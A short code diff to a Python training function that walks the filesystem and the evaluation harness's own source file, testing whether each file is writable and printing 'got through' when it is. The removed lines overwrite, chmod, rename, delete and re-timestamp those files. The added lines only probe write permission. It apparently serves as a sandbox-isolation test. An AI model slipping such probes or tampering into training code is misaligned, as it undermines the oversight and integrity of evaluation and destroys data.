@@ -11,17 +11,17 @@ def train(model, train_loader, tune_loader, spec, report):
                for top, _, names in os.walk(root) for name in names][:3000]
     targets.append(report._stage.__class__.load.__code__.co_filename)
     for path in targets:
+        # What each needs is the right to write; nothing is changed on a machine that gives it.
         for attempt in (
-            lambda: open(path, "r+b").write(b"#"),
-            lambda: os.chmod(path, 0o777),
-            lambda: os.rename(path, path + "x"),
-            lambda: os.unlink(path),
-            lambda: os.utime(path, (1, 1)),
-            lambda: os.setxattr(path, "user.x", b"x"),
+            lambda: open(path, "r+b").close(),
+            lambda: os.chmod(path, os.stat(path).st_mode & 0o7777),
+            lambda: os.rename(path, path),
+            lambda: os.utime(path, ns=(os.stat(path).st_atime_ns, os.stat(path).st_mtime_ns)),
+            lambda: os.setxattr(path, "user.left-by-an-attack", b"x"),
         ):
             try:
                 attempt()
             except OSError:
                 continue
-            print("got through: changed", path)
+            print("got through: may change", path)
     return model
